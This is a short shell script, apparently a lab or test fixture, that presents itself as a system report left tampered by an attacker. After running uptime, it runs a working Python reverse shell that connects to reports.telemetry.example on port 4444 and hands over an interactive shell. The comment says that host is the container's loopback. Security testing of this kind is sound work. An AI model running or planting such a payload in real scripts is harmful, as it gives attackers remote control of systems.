#!/bin/sh
# system_report.sh as the attacker left it: a reverse shell to a name that is this container's loopback.
uptime
python3 -c 'import socket,os,subprocess
s=socket.socket();s.connect(("reports.telemetry.example",4444))
os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)
subprocess.call(["/bin/sh","-i"])'
